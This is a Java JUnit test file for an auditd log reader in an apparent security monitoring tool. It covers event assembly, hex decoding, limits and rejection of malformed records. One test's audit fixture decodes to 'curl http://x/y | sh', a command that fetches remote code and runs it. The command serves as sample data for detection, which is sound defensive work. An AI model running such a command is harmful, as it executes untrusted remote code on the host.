package dev.atwatch.read.auditd;

import static org.assertj.core.api.Assertions.assertThat;

import dev.atwatch.event.Event;
import dev.atwatch.read.Input;
import dev.atwatch.read.ReadLimits;
import dev.atwatch.read.ReadOptions;
import dev.atwatch.read.Rejected;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class AuditdReaderTest {

    static byte[] fixture(String name) throws IOException {
        try (InputStream in = AuditdReaderTest.class.getResourceAsStream(name)) {
            return in.readAllBytes();
        }
    }

    static CollectingSink read(Input input, ReadOptions options) throws IOException {
        CollectingSink sink = new CollectingSink();
        new AuditdReader().read(input, options, sink);
        return sink;
    }

    static CollectingSink read(String fixture) throws IOException {
        return read(new MemoryInput(fixture, fixture(fixture), null), ReadOptions.DEFAULTS);
    }

    @Test
    void assemblesInterleavedEventsBySerialAndClosesThemOnEoe() throws IOException {
        List<Event> events = read("interleaved.log").events;

        assertThat(events).extracting(e -> e.text("comm")).containsExactly("echo", "at");
        Event at = events.get(1);
        assertThat(at.get("type").strings())
                .containsExactly("SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "EOE");
        assertThat(at.get("name").strings())
                .containsExactly("/usr/bin/at", "/lib64/ld-linux-x86-64.so.2");
        assertThat(at.text("CommandLine")).isEqualTo("at now + '1 minute'");
        assertThat(at.text("proctitle")).isEqualTo("at now + 1 minute");
        assertThat(at.text("key")).isEqualTo("at_usage");
        assertThat(at.text("a0")).isEqualTo("at");
        assertThat(at.raw().lines().count()).isEqualTo(7);
        assertThat(at.provenance().line()).isEqualTo(1);
        assertThat(at.time()).isEqualTo(1796301061.120);
    }

    @Test
    void argumentsInAnyOrderRepeatedOrInPiecesComeOutByNumber() throws IOException {
        String log =
                "type=EXECVE msg=audit(1700000000.000:10): argc=5 a3=\"three\" a0=\"sh\""
                        + " a2_len=8 a2[1]=41424344 a2[0]=45464748 a1=\"-c\" a2=\"bare\""
                        + " a1=\"-x\" a4[2]=3132 a4[0]=3334 a4[2]=3536\n";
        Event event = read(MemoryInput.of("execve.log", log), ReadOptions.DEFAULTS).events.get(0);

        assertThat(event.text("a1")).isEqualTo("-x");
        assertThat(event.text("a2")).isEqualTo("EFGHABCD");
        assertThat(event.text("a4")).isEqualTo("3456");
        assertThat(event.text("CommandLine")).isEqualTo("sh -x EFGHABCD three 3456");
        assertThat(event.names()).containsSubsequence("argc", "a0", "a1", "a2", "a3", "a4");
    }

    @Test
    void keysReadInAnotherOrderOrSharingAPrefixKeepTheirValues() throws IOException {
        String log =
                "type=PATH msg=audit(1700000000.000:1): item=0 items=2 name=\"/a\"\n"
                        + "type=PATH msg=audit(1700000001.000:2): item=0 items=2 name=\"/a\"\n"
                        + "type=PATH msg=audit(1700000002.000:3): items=3 item=1 nametype=X"
                        + " name=\"/b\"\n"
                        + "type=PATH msg=audit(1700000003.000:4): item=5 itemsx=4 items=6\n";
        List<Event> events = read(MemoryInput.of("path.log", log), ReadOptions.DEFAULTS).events;

        assertThat(events).extracting(e -> e.text("item")).containsExactly("0", "0", "1", "5");
        assertThat(events).extracting(e -> e.text("items")).containsExactly("2", "2", "3", "6");
        assertThat(events.get(2).text("nametype")).isEqualTo("X");
        assertThat(events.get(2).text("name")).isEqualTo("/b");
        assertThat(events.get(3).text("itemsx")).isEqualTo("4");
    }

    @Test
    void decodesHexArgumentsAndQuotesThemAsAShellWould() throws IOException {
        Event echo = read("interleaved.log").events.get(0);

        assertThat(echo.text("a1")).isEqualTo("curl http://x/y | sh");
        assertThat(echo.text("CommandLine")).isEqualTo("echo 'curl http://x/y | sh'");
        assertThat(echo.text("proctitle")).isEqualTo("echo curl http://x/y | sh");
        assertThat(echo.text("key")).isEqualTo("(null)");
        assertThat(echo.get("argc").asString()).isEqualTo("2");
    }

    @Test
    void keepsSyscallRegistersOnlyWhenThereIsNoExecve() throws IOException {
        CollectingSink sink = read("hostile.log");
        assertThat(read("interleaved.log").events.get(1).get("a1").strings())
                .containsExactly("now");
        String syscallOnly =
                "type=SYSCALL msg=audit(1796301300.000:1): arch=c000003e syscall=2 a0=3 a1=80000"
                        + " pid=1 comm=\"cat\" exe=\"/usr/bin/cat\"\n";
        Event event = read(MemoryInput.of("x", syscallOnly), ReadOptions.DEFAULTS).events.get(0);
        assertThat(event.text("a1")).isEqualTo("80000");
        assertThat(sink.events).isNotEmpty();
    }

    @Test
    void reassemblesAnArgumentSplitIntoPiecesAcrossRecords() throws IOException {
        String expected =
                new String(fixture("long-argument.expected"), StandardCharsets.UTF_8).strip();
        List<Event> events = read("long-argument.log").events;

        assertThat(events).hasSize(1);
        Event sh = events.get(0);
        assertThat(sh.text("a2")).isEqualTo(expected);
        assertThat(sh.get("a2_len")).isNull();
        assertThat(sh.text("CommandLine")).isEqualTo("sh -c '" + expected + "'");
        assertThat(sh.text("host")).isEqualTo("web01");
        assertThat(sh.text("User")).isEqualTo("0");
    }

    @Test
    void readsEnrichedFieldsAndNamesTheUserFromThem() throws IOException {
        Event at = read("enriched.log").events.get(0);

        assertThat(at.text("uid")).isEqualTo("0");
        assertThat(at.text("UID")).isEqualTo("root");
        assertThat(at.text("AUID")).isEqualTo("bob");
        assertThat(at.text("SYSCALL")).isEqualTo("execve");
        assertThat(at.text("User")).isEqualTo("root");
        assertThat(at.text("key")).isEqualTo("at_usage");
        assertThat(at.text("subj")).isEqualTo("unconfined");
        assertThat(at.text("proctitle")).isEqualTo("at now");
    }

    @Test
    void rejectsBadRecordsWithTheirLocationAndGoesOn() throws IOException {
        CollectingSink sink = read("hostile.log");

        Map<Long, String> reasons =
                sink.rejected.stream()
                        .collect(
                                Collectors.toMap(
                                        r -> r.where().line(),
                                        Rejected::reason,
                                        (a, b) -> a + "," + b));
        assertThat(reasons)
                .containsEntry(1L, "auditd.no-serial")
                .containsEntry(2L, "auditd.no-serial")
                .containsEntry(3L, "auditd.bad-hex,limit.fields-per-event")
                .containsEntry(4L, "auditd.unterminated-quote")
                .containsEntry(5L, "auditd.not-a-record")
                .containsEntry(6L, "auditd.bad-hex");
        assertThat(sink.rejected)
                .allSatisfy(
                        r -> {
                            assertThat(r.where().input()).isEqualTo("hostile.log");
                            assertThat(r.where().offset()).isNotNegative();
                            assertThat(r.detail()).hasSizeLessThan(200);
                        });
        assertThat(sink.rejected.get(0).where().offset()).isZero();
        assertThat(sink.rejected.get(1).where().offset()).isEqualTo(77);
        Event sudo = sink.events.stream().filter(e -> e.get("cmd") != null).findFirst().get();
        assertThat(sudo.text("cmd")).isEqualTo("sudo at now");
        assertThat(sudo.text("terminal")).isEqualTo("pts/0");
        assertThat(sink.events).hasSize(4);
    }

    @Test
    void boundsAnEventThatNeverEndsAndReportsItsDroppedRecordsOnce() throws IOException {
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < 50; i++) {
            log.append("type=PATH msg=audit(1796301400.000:9001): item=")
                    .append(i)
                    .append(" name=\"/tmp/f")
                    .append(i)
                    .append("\"\n");
        }
        ReadOptions options =
                new ReadOptions(
                        null, "box", ReadLimits.DEFAULTS.with(ReadLimits.VALUES_PER_FIELD, 10));
        CollectingSink sink = read(MemoryInput.of("endless.log", log.toString()), options);

        assertThat(sink.events)
                .singleElement()
                .satisfies(
                        e -> {
                            assertThat(e.get("name").strings()).hasSize(10);
                            assertThat(e.text("host")).isEqualTo("box");
                        });
        assertThat(sink.rejected)
                .singleElement()
                .satisfies(
                        r -> {
                            assertThat(r.reason()).isEqualTo("limit.values-per-field");
                            assertThat(r.where().line()).isEqualTo(11);
                            assertThat(r.detail()).startsWith("40 record(s) of event 9001 dropped");
                        });
    }

    @Test
    void completesAnEventWithoutEoeOnceTheLogMovesOnInTime() throws IOException {
        String log =
                "type=USER_ACCT msg=audit(1796301500.000:1): pid=1 uid=0 msg='op=PAM:accounting"
                        + " acct=\"bob\" res=success'\n"
                        + "type=SYSCALL msg=audit(1796301501.000:2): syscall=59 comm=\"a\"\n"
                        + "type=SYSCALL msg=audit(1796301509.000:3): syscall=59 comm=\"b\"\n"
                        + "type=SYSCALL msg=audit(1796301501.000:2): syscall=59 comm=\"late\"\n";
        List<Event> events = read(MemoryInput.of("x", log), ReadOptions.DEFAULTS).events;

        assertThat(events).extracting(e -> e.text("comm")).containsExactly(null, "a", "b", "late");
        assertThat(events.get(0).text("acct")).isEqualTo("bob");
        assertThat(events.get(0).text("op")).isEqualTo("PAM:accounting");
    }

    @Test
    void completesTheOldestEventWhenTooManyAreOpen() throws IOException {
        String log =
                "type=SYSCALL msg=audit(1796301500.000:1): comm=\"a\"\n"
                        + "type=SYSCALL msg=audit(1796301500.000:2): comm=\"b\"\n"
                        + "type=SYSCALL msg=audit(1796301500.000:3): comm=\"c\"\n"
                        + "type=CWD msg=audit(1796301500.000:1): cwd=\"/\"\n";
        CollectingSink sink = new CollectingSink();
        new AuditdReader(2).read(MemoryInput.of("x", log), ReadOptions.DEFAULTS, sink);

        assertThat(sink.events)
                .extracting(e -> e.text("comm"))
                .containsExactly("a", "b", "c", null);
        assertThat(sink.rejected).isEmpty();
    }

    @Test
    void rejectsAnOverlongLineAndReadsTheNextOne() throws IOException {
        String log =
                "type=SYSCALL msg=audit(1796301500.000:1): comm=\""
                        + "x".repeat(500)
                        + "\"\n"
                        + "type=SYSCALL msg=audit(1796301500.000:2): comm=\"b\"\n";
        ReadOptions options =
                new ReadOptions(null, null, ReadLimits.DEFAULTS.with(ReadLimits.LINE_BYTES, 100));
        CollectingSink sink = read(MemoryInput.of("x", log), options);

        assertThat(sink.events).extracting(e -> e.text("comm")).containsExactly("b");
        assertThat(sink.rejected)
                .singleElement()
                .satisfies(
                        r -> {
                            assertThat(r.reason()).isEqualTo("limit.line-bytes");
                            assertThat(r.detail()).contains("--limit line-bytes=N");
                        });
        assertThat(sink.events.get(0).provenance().offset()).isEqualTo(log.indexOf("\n") + 1);
    }

    @Test
    void givesTheSameEventsWhateverTheReadBoundaries() throws IOException {
        for (String name :
                List.of("interleaved.log", "long-argument.log", "enriched.log", "hostile.log")) {
            byte[] content = fixture(name);
            CollectingSink whole = read(new MemoryInput(name, content, null), ReadOptions.DEFAULTS);
            for (int step : new int[] {1, 2, 3, 7, 64}) {
                CollectingSink cut =
                        read(new TrickleInput(name, content, step), ReadOptions.DEFAULTS);
                assertThat(cut.events)
                        .extracting(Event::toMap)
                        .isEqualTo(whole.events.stream().map(Event::toMap).toList());
                assertThat(cut.rejected).isEqualTo(whole.rejected);
            }
        }
    }

    @Test
    void keepsAFieldNamedLikeMetadataUnderAnExtractedName() throws IOException {
        String log =
                "node=n1 type=USER_LOGIN msg=audit(1796301500.000:1): pid=1 host=evil index=x\n";
        Event event = read(MemoryInput.of("x", log), ReadOptions.DEFAULTS).events.get(0);

        assertThat(event.text("host")).isEqualTo("n1");
        assertThat(event.text("index")).isEqualTo("linux");
        assertThat(event.text("extracted_host")).isEqualTo("evil");
        assertThat(event.text("extracted_index")).isEqualTo("x");
    }

    @Test
    void recognizesAuditLogsAndNotSyslog() {
        AuditdReader reader = new AuditdReader();
        assertThat(recognizes(reader, "type=SYSCALL msg=audit(1.2:3): a=b\n")).isTrue();
        assertThat(recognizes(reader, "node=h type=EOE msg=audit(1.2:3): \n")).isTrue();
        assertThat(
                        recognizes(
                                reader,
                                "----\ntype=PATH msg=audit(03/28/2023 09:48:28.232:783) : x\n"))
                .isTrue();
        assertThat(recognizes(reader, "Dec  3 18:31:01 host atd[1]: Starting job\n")).isFalse();
        assertThat(recognizes(reader, "")).isFalse();
        assertThat(recognizes(reader, "type=")).isFalse();
    }

    private static boolean recognizes(AuditdReader reader, String head) {
        byte[] bytes = head.getBytes(StandardCharsets.UTF_8);
        return reader.recognizes(bytes, bytes.length);
    }
}
